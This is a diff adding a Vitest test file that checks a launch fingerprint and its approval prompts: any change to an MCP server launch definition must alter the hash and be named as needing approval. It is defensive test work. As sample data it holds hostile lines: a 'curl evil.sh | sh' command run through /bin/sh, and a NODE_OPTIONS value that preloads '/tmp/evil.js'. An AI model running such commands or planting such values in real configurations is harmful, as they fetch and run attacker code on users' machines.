@@ -1,0 +1,322 @@
+import { describe, expect, it, test } from 'vitest';
+import { sha256Hex } from './canonical-json';
+import { describeLaunchChanges, diffLaunch, launchFingerprint } from './fingerprint';
+import type { LaunchChange, LaunchDefinition } from './fingerprint';
+
+// Dangerous direction: a change that keeps its approval. Any edit to what would run must change
+// the fingerprint and be named on the card; two spellings of one thing re-prompting only costs a
+// click.
+
+const approved: LaunchDefinition = {
+  executable: '/usr/local/bin/node',
+  args: ['/opt/mcp/server.js', '--root', '/home/ana/project'],
+  env: { LOG_LEVEL: 'info', GITHUB_TOKEN: '${GITHUB_TOKEN}' },
+  cwd: '/home/ana/project',
+  provenance: 'workspace',
+  workspaceRoot: '/home/ana/project',
+};
+
+const NFC_HOME = '/home/jos\u00e9';
+const NFD_HOME = '/home/jose\u0301';
+
+type Mutation = [
+  name: string,
+  before: LaunchDefinition,
+  after: LaunchDefinition,
+  field: LaunchChange['field'],
+];
+
+const mutations: Mutation[] = [
+  ['another executable', approved, { ...approved, executable: '/usr/bin/node' }, 'executable'],
+  ['executable case', approved, { ...approved, executable: '/usr/local/bin/Node' }, 'executable'],
+  [
+    'executable through ..',
+    approved,
+    { ...approved, executable: '/usr/local/bin/../bin/node' },
+    'executable',
+  ],
+  [
+    'executable NFC vs NFD',
+    { ...approved, executable: `${NFC_HOME}/bin/server` },
+    { ...approved, executable: `${NFD_HOME}/bin/server` },
+    'executable',
+  ],
+  ['arg added', approved, { ...approved, args: [...approved.args, '--write'] }, 'args'],
+  ['empty arg added', approved, { ...approved, args: [...approved.args, ''] }, 'args'],
+  ['arg removed', approved, { ...approved, args: approved.args.slice(0, 2) }, 'args'],
+  [
+    'args reordered',
+    approved,
+    { ...approved, args: ['--root', '/home/ana/project', '/opt/mcp/server.js'] },
+    'args',
+  ],
+  ['arg changed', approved, { ...approved, args: ['/opt/mcp/server.js', '--root', '/'] }, 'args'],
+  [
+    'args split "a b" vs ["a", "b"]',
+    { ...approved, args: ['/opt/mcp/server.js', '--root /home/ana/project'] },
+    approved,
+    'args',
+  ],
+  ['arg NFC vs NFD', { ...approved, args: [NFC_HOME] }, { ...approved, args: [NFD_HOME] }, 'args'],
+  [
+    'env key added (NODE_OPTIONS)',
+    approved,
+    { ...approved, env: { ...approved.env, NODE_OPTIONS: '--require /tmp/evil.js' } },
+    'env',
+  ],
+  ['env key removed', approved, { ...approved, env: { GITHUB_TOKEN: '${GITHUB_TOKEN}' } }, 'env'],
+  [
+    'env value changed',
+    approved,
+    { ...approved, env: { ...approved.env, LOG_LEVEL: 'debug' } },
+    'env',
+  ],
+  [
+    'env value expanded (the fingerprint sees the configured text)',
+    approved,
+    { ...approved, env: { ...approved.env, GITHUB_TOKEN: 'ghp_secret' } },
+    'env',
+  ],
+  [
+    'env {"a":"b=c"} vs {"a=b":"c"}',
+    { ...approved, env: { a: 'b=c' } },
+    { ...approved, env: { 'a=b': 'c' } },
+    'env',
+  ],
+  [
+    'env value with trailing space',
+    approved,
+    { ...approved, env: { ...approved.env, LOG_LEVEL: 'info ' } },
+    'env',
+  ],
+  [
+    'env key case (Path vs PATH)',
+    { ...approved, env: { Path: '/usr/bin' } },
+    { ...approved, env: { PATH: '/usr/bin' } },
+    'env',
+  ],
+  [
+    'env key "__proto__" from JSON',
+    approved,
+    { ...approved, env: envFromJson('{"__proto__": "x", "LOG_LEVEL": "info"}') },
+    'env',
+  ],
+  ['cwd changed', approved, { ...approved, cwd: '/home/ana' }, 'cwd'],
+  ['cwd added', { ...approved, cwd: null }, approved, 'cwd'],
+  ['cwd removed', approved, { ...approved, cwd: null }, 'cwd'],
+  ['provenance', { ...approved, provenance: 'user' }, approved, 'provenance'],
+  [
+    'workspace root changed',
+    approved,
+    { ...approved, workspaceRoot: '/home/ana/other' },
+    'workspaceRoot',
+  ],
+  [
+    'workspace root null vs ""',
+    { ...approved, workspaceRoot: null },
+    { ...approved, workspaceRoot: '' },
+    'workspaceRoot',
+  ],
+  [
+    'workspace root NFC vs NFD',
+    { ...approved, workspaceRoot: NFC_HOME },
+    { ...approved, workspaceRoot: NFD_HOME },
+    'workspaceRoot',
+  ],
+];
+
+describe('a change that keeps its approval is the dangerous direction', () => {
+  test.each(mutations)('%s: new fingerprint, diff names the field', (_, before, after, field) => {
+    expect(launchFingerprint(after)).not.toBe(launchFingerprint(before));
+    for (const changes of [diffLaunch(before, after), diffLaunch(after, before)]) {
+      expect(changes.length).toBeGreaterThan(0);
+      // A renamed env key is two changes (one removed, one added), both naming env.
+      expect(new Set(changes.map((change) => change.field))).toEqual(new Set([field]));
+      expect(describeLaunchChanges(changes)).toMatch(/ - needs approval$/);
+    }
+  });
+
+  it('has no two mutations with one fingerprint', () => {
+    const all = new Set(
+      mutations.flatMap(([, b, a]) => [launchFingerprint(b), launchFingerprint(a)]),
+    );
+    const distinct = new Set(
+      mutations.flatMap(([, b, a]) => [JSON.stringify(b), JSON.stringify(a)]),
+    );
+    expect(all.size).toBe(distinct.size);
+  });
+
+  it('names the env key and both values', () => {
+    const changes = diffLaunch(approved, {
+      ...approved,
+      env: { LOG_LEVEL: 'debug', NODE_OPTIONS: '--require /tmp/evil.js' },
+    });
+    expect(changes).toEqual([
+      { field: 'env', key: 'GITHUB_TOKEN', before: '${GITHUB_TOKEN}', after: null },
+      { field: 'env', key: 'LOG_LEVEL', before: 'info', after: 'debug' },
+      { field: 'env', key: 'NODE_OPTIONS', before: null, after: '--require /tmp/evil.js' },
+    ]);
+  });
+
+  it('shows args as JSON so a split is visible', () => {
+    const changes = diffLaunch({ ...approved, args: ['a b'] }, { ...approved, args: ['a', 'b'] });
+    expect(changes).toEqual([{ field: 'args', before: '["a b"]', after: '["a","b"]' }]);
+  });
+
+  it('escapes non-ASCII when the two sides would render alike', () => {
+    const changes = diffLaunch({ ...approved, cwd: NFC_HOME }, { ...approved, cwd: NFD_HOME });
+    expect(changes).toEqual([
+      { field: 'cwd', before: '/home/jos⟦U+00E9⟧', after: '/home/jose⟦U+0301⟧' },
+    ]);
+    const visible = diffLaunch({ ...approved, cwd: NFC_HOME }, { ...approved, cwd: '/home/jo' });
+    expect(visible).toEqual([{ field: 'cwd', before: NFC_HOME, after: '/home/jo' }]);
+  });
+
+  it('shows a null cwd as (none)', () => {
+    expect(diffLaunch({ ...approved, cwd: null }, approved)).toEqual([
+      { field: 'cwd', before: '(none)', after: '/home/ana/project' },
+    ]);
+  });
+});
+
+describe('one definition has one fingerprint', () => {
+  // mulberry32: a seeded PRNG, so a failure reproduces.
+  function prng(seed: number): () => number {
+    let state = seed;
+    return () => {
+      state = (state + 0x6d2b79f5) | 0;
+      let t = Math.imul(state ^ (state >>> 15), 1 | state);
+      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
+      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+    };
+  }
+
+  function shuffle<T>(items: readonly T[], random: () => number): T[] {
+    const out = [...items];
+    for (let i = out.length - 1; i > 0; i--) {
+      const j = Math.floor(random() * (i + 1));
+      const a = out[i]!;
+      out[i] = out[j]!;
+      out[j] = a;
+    }
+    return out;
+  }
+
+  it('ignores the insertion order of env keys and of the definition fields (1,000 shuffles)', () => {
+    const env = Object.fromEntries(
+      ['PATH', 'HOME', 'a', 'a=b', 'A', 'é', 'e\u0301', '_', 'Z9', '10', '9', 'LOG_LEVEL'].map(
+        (key, index) => [key, `value ${index}`],
+      ),
+    );
+    const base: LaunchDefinition = { ...approved, env };
+    const fields = Object.entries(base);
+    const random = prng(0x5eed);
+    const seen = new Set<string>();
+    for (let round = 0; round < 1000; round++) {
+      const shuffledEnv = Object.fromEntries(shuffle(Object.entries(env), random));
+      const rebuilt: LaunchDefinition = {
+        ...Object.fromEntries(shuffle(fields, random)),
+        ...base,
+        env: shuffledEnv,
+      };
+      // Same key set, inserted in a different order.
+      expect(Object.keys(shuffledEnv)).toHaveLength(Object.keys(env).length);
+      seen.add(launchFingerprint(rebuilt));
+      expect(diffLaunch(base, rebuilt)).toEqual([]);
+    }
+    expect([...seen]).toEqual([launchFingerprint(base)]);
+  });
+
+  it('pins the format: version 1, env as sorted pairs (golden value)', () => {
+    const text =
+      '{"args":["/opt/mcp/server.js","--root","/home/ana/project"],"cwd":"/home/ana/project",' +
+      '"env":[["GITHUB_TOKEN","${GITHUB_TOKEN}"],["LOG_LEVEL","info"]],' +
+      '"executable":"/usr/local/bin/node","provenance":"workspace","v":1,' +
+      '"workspaceRoot":"/home/ana/project"}';
+    expect(launchFingerprint(approved)).toBe(sha256Hex(text));
+    // A silent format change (a field added, renamed or re-encoded) fails here.
+    expect(launchFingerprint(approved)).toBe(
+      '09eccbaf36eb5fb0cdd1ef3362e1e53e0b30c7e74e42aa5011ac4c3cc3d30a61',
+    );
+  });
+
+  it('is 64 lower-case hex characters', () => {
+    expect(launchFingerprint(approved)).toMatch(/^[0-9a-f]{64}$/);
+  });
+});
+
+describe('describeLaunchChanges', () => {
+  const envChange = (key: string, before: string | null, after: string | null): LaunchChange => ({
+    field: 'env',
+    key,
+    before,
+    after,
+  });
+  const command: LaunchChange = { field: 'executable', before: '/a', after: '/b' };
+  const args: LaunchChange = { field: 'args', before: '[]', after: '["x"]' };
+  const cwd: LaunchChange = { field: 'cwd', before: '(none)', after: '/x' };
+
+  test.each<[string, LaunchChange[], string]>([
+    ['nothing', [], ''],
+    ['command', [command], 'command changed - needs approval'],
+    ['args', [args], 'args changed - needs approval'],
+    [
+      'env added',
+      [envChange('NODE_OPTIONS', null, '-r x')],
+      'env NODE_OPTIONS added - needs approval',
+    ],
+    ['env removed', [envChange('LOG', 'a', null)], 'env LOG removed - needs approval'],
+    ['env changed', [envChange('LOG', 'a', 'b')], 'env LOG changed - needs approval'],
+    [
+      'odd env key is quoted',
+      [envChange('a=b c', null, 'x')],
+      'env "a=b c" added - needs approval',
+    ],
+    [
+      'non-ASCII env key is escaped',
+      [envChange('e\u0301', null, 'x')],
+      'env "e⟦U+0301⟧" added - needs approval',
+    ],
+    [
+      'long env key is cut',
+      [envChange('K'.repeat(100), null, 'x')],
+      `env ${'K'.repeat(39)}… added - needs approval`,
+    ],
+    [
+      'two env keys',
+      [envChange('A', null, 'x'), envChange('B', 'y', null)],
+      'env changed - needs approval',
+    ],
+    [
+      'command and env',
+      [command, envChange('NODE_OPTIONS', null, 'x')],
+      'command and env changed - needs approval',
+    ],
+    [
+      'in a fixed order',
+      [cwd, envChange('A', null, 'x'), args, command],
+      'command, args, env and working folder changed - needs approval',
+    ],
+  ])('%s', (_, changes, line) => {
+    expect(describeLaunchChanges(changes)).toBe(line);
+  });
+
+  it('describes a real diff', () => {
+    const changes = diffLaunch(approved, {
+      ...approved,
+      executable: '/bin/sh',
+      args: ['-c', 'curl evil.sh | sh'],
+    });
+    expect(describeLaunchChanges(changes)).toBe('command and args changed - needs approval');
+  });
+});
+
+function envFromJson(text: string): Record<string, string> {
+  const parsed: unknown = JSON.parse(text);
+  const env: Record<string, string> = {};
+  if (typeof parsed !== 'object' || parsed === null) return env;
+  for (const [key, value] of Object.entries(parsed)) {
+    if (typeof value === 'string') Object.defineProperty(env, key, { value, enumerable: true });
+  }
+  return env;
+}
